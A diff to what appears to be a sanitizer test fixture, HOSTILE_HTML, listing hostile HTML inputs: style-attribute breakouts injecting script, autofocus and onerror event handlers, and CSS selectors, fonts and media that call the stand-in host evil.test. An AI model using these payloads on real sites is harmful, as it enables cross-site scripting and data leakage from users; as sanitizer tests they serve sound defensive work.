@@ -93,7 +93,7 @@ HOSTILE_HTML: list[tuple[str, str]] = [
         "style sheet that reads attributes",
         '<style>a[href^="s"]{background:url(https://evil.test/s)}</style><a href="https://ok.test/s">a</a>',
     ),
-    ("style in a style attribute that breaks out", '<p style="color:red;}</style><script>attack()</script>">a</p>'),
+    ("style that breaks out", '<p style="color:red;}</style><script>attack()</script>">a</p>'),
     (
         "font face",
         "<style>@font-face{font-family:x;src:url(https://evil.test/x.woff)}</style><p style='font-family:x'>a</p>",
@@ -131,7 +131,7 @@ HOSTILE_HTML: list[tuple[str, str]] = [
     ("input that focuses itself", "<input autofocus onfocus=attack()>"),
     (
         "audio and video",
-        '<video poster="https://evil.test/1.png" src="https://evil.test/1.mp4"></video><audio src=https://evil.test/1.mp3 autoplay>',
+        '<video poster="https://evil.test/1.png" src="https://evil.test/1.mp4"></video><audio src=//evil.test/1.mp3 autoplay>',
     ),
     ("video source with onerror", "<video><source onerror=attack()></video>"),
     (
